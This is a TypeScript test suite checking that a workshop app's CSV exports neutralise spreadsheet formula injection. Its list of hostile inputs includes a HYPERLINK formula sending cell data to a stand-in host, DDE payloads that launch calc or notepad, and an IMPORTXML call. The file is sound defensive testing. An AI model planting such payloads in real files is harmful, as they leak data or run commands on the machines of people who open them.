// The notes and actions CSV exports against CSV injection: text a spreadsheet would run as a formula
// (=HYPERLINK, +cmd|…, @SUM, a leading tab) is written as plain text, and reads back as it was typed.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { newAction } from '../actions/edits';
import { parseCsv } from '../csv/parseCsv';
import { restoreNeutralised } from '../csv/writeCsv';
import { dropControls, hasVisibleText } from '../text/plainText';
import { actionsCsv, answersCsv, notesCsv } from './csvExports';
import { parseAnswersCsv } from '../diagnostic/csvImport';
import { reportTestWorkshop } from './testing';

const HOSTILE = [
  '=HYPERLINK("http://x.example/?leak="&A1,"Click for the agenda")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C notepad\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1;2,3',
  "'=already starts with an apostrophe",
  '\t=1+1',
  '\r=1+1',
];

/** A note as stored: line breaks become `\n` (a lone carriage return included). */
const stored = (text: string) => dropControls(text, 'multi');

/** A spreadsheet runs a cell as a formula when it starts with one of these. */
const RUNS_AS_FORMULA = /^[=+\-@\t\r]/;

function cellsOf(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF'), 'a byte order mark for Excel').toBe(true);
  const parsed = parseCsv(csv);
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.rows.map((row) => row.fields);
}

function expectNoFormulaCells(rows: string[][]) {
  for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(RUNS_AS_FORMULA);
}

describe('CSV exports neutralise formula injection', () => {
  it('writes hostile note texts, authors, area and theme names as text a spreadsheet will not run', () => {
    const base = reportTestWorkshop({ extraNotes: HOSTILE });
    const friction = base.agenda[0]!;
    const board = friction.board!;
    const doc = {
      ...base,
      agenda: [
        {
          ...friction,
          title: '=IMPORTXML("http://x.example","//a")',
          board: {
            ...board,
            areas: board.areas.map((area, i) => (i === 0 ? { ...area, title: '@evil()' } : area)),
            themes: board.themes.map((theme) => ({ ...theme, name: '+theme()' })),
            notes: board.notes.map((note) => (note.id === 'n1' ? { ...note, author: '=author()' } : note)),
          },
        },
        ...base.agenda.slice(1),
      ],
    };
    const rows = cellsOf(notesCsv(doc));
    expectNoFormulaCells(rows);
    const texts = rows.map((row) => row[5]!);
    for (const hostile of HOSTILE.map(stored)) expect(texts).toContain(RUNS_AS_FORMULA.test(hostile) || hostile.startsWith("'") ? `'${hostile}` : hostile);
    const n1 = rows.find((row) => row[5] === 'Brand ads eat the budget')!;
    expect(n1.slice(0, 5)).toEqual(["'=IMPORTXML(\"http://x.example\",\"//a\")", "'@evil()", "'+theme()", 'Sales', "'=author()"]);
  });

  it('writes hostile action titles, descriptions, owners, metrics and sources as text', () => {
    const doc = reportTestWorkshop({
      overrides: {
        actions: HOSTILE.map((hostile, i) => ({
          ...newAction(`h${i}`, hostile, { kind: 'recommendation', id: 'align/x', label: hostile }),
          description: hostile,
          owner: hostile.slice(0, 120),
          metric: hostile,
        })),
      },
    });
    const rows = cellsOf(actionsCsv(doc));
    expectNoFormulaCells(rows);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const [i, row] of rows.slice(1).entries()) {
      const typed = doc.actions[i]!;
      for (const [column, value] of [[1, typed.title], [2, typed.description], [3, typed.owner], [6, typed.metric]] as const) {
        expect(restoreNeutralised(row[column]!), `${rows[0]![column]} of action ${i + 1}`).toBe(value);
      }
    }
  });

  it('words the source of each action as the screen and the PDF do, a carried-over action included', () => {
    const doc = reportTestWorkshop({
      overrides: {
        actions: [
          newAction('c1', 'Monthly pipeline review', { kind: 'carried-over', workshopId: 'earlier-0001', actionId: 'a1', label: 'Northwind kickoff (12 Mar 2026)' }),
          newAction('r1', 'Name a liaison', { kind: 'recommendation', id: 'align/liaison', label: 'Recommendation: Name a liaison' }),
          newAction('n1', 'Typed in the room'),
        ],
      },
    });
    const sources = cellsOf(actionsCsv(doc))
      .slice(1)
      .map((row) => row[9]);
    expect(sources).toEqual(['Carried over from Northwind kickoff (12 Mar 2026)', 'From Recommendation: Name a liaison', '']);
  });

  it('never lets any note text start a cell with a formula character, and reads back exactly as typed', () => {
    const text = fc
      .tuple(fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", "'=", "''+"), fc.string({ minLength: 1, maxLength: 40 }))
      .map(([start, rest]) => `${start}${rest}`)
      .filter(hasVisibleText);
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (texts) => {
        const rows = cellsOf(notesCsv(reportTestWorkshop({ extraNotes: texts })));
        expectNoFormulaCells(rows);
        const exported = rows.map((row) => restoreNeutralised(row[5]!));
        for (const typed of texts) expect(exported).toContain(stored(typed));
      }),
      { numRuns: 200 },
    );
  });
});

describe('answersCsv', () => {
  it('writes the diagnostic in the import layout, roles included, and leaves names out of an anonymous workshop', () => {
    const doc = reportTestWorkshop();
    const named = parseAnswersCsv(answersCsv(doc));
    expect(named.ok && named.rows.map((r) => [r.participant, r.team, r.role, r.answers])).toEqual(
      doc.diagnostic.participants.map((p) => [p.name, p.team, p.role, p.answers]),
    );
    const hidden = parseAnswersCsv(answersCsv({ ...doc, settings: { ...doc.settings, anonymous: true } }));
    expect(hidden.ok && hidden.rows.map((r) => r.participant).every((name) => name === '')).toBe(true);
    expect(hidden.ok && hidden.rows.map((r) => [r.team, r.role, r.answers])).toEqual(doc.diagnostic.participants.map((p) => [p.team, p.role, p.answers]));
  });
});
